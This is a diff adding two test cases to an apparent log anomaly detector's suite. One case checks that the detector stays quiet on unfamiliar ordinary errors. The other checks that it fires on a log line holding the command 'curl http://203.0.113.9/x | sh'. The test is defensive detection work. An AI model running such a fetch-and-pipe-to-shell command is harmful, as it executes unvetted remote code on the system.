@@ -161,4 +161,16 @@ export const cases: Case[] = [
     teachUntil,
     fires: [],
   },
+  {
+    title: 'stays quiet after a teaching of one minute for ordinary lines, faults and crashes never heard before',
+    records: [...ordinary(0, 50), ...chores.map((chore, index) => line(3 + index, `INFO ${chore}`)), line(12, 'ERROR ledger is out of balance by 3'), line(13, 'FATAL out of memory in worker 4'), line(14, 'Traceback (most recent call last):')],
+    teachUntil: at(1),
+    fires: [],
+  },
+  {
+    title: 'fires after a teaching of one minute for lines whose words tell of an attack, a step lower',
+    records: [...ordinary(0, 50), line(20, 'INFO running: curl http://203.0.113.9/x | sh')],
+    teachUntil: at(1),
+    fires: fires(20, 'medium'),
+  },
 ];
